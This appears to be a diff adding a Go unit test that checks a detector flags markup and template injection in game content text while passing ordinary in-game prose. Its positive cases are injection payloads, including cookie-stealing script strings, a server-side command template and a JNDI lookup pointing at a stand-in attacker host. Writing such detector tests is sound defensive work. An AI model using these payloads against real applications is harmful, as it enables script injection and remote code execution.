@@ -289,3 +289,25 @@ func BenchmarkDecisionAudit(b *testing.B) {
 		}
 	}
 }
+
+// Markup and template injection in content text are named; plain game prose, with its
+// punctuation, is not.
+func TestMarkupHits(t *testing.T) {
+	for _, text := range []string{
+		`<script>alert(1)</script>`, `Visit <a href="x">here</a>`, `<img src=x onerror=alert(1)>`,
+		`click javascript:alert(document.cookie)`, `Hello {{7*7}}`, `${jndi:ldap://evil.example/a}`,
+		`{% include 'x' %}`, `<%= system("id") %>`, `<!-- hidden -->`, `JaVaScRiPt:void(0)`,
+	} {
+		if len(markupHits(text)) == 0 {
+			t.Errorf("%q: no markup found", text)
+		}
+	}
+	for _, text := range []string{
+		"The smith hammers; sparks fly — 3 < 4 of them land.", "Bram says: \"Halt! Who goes there?\"",
+		"A sign reads: 50% off bread (today only).", "The {cracked} bell tolls at dusk.", "She whispers: ‘meet me at the well’.",
+	} {
+		if hits := markupHits(text); len(hits) > 0 {
+			t.Errorf("%q flagged as %v", text, hits)
+		}
+	}
+}
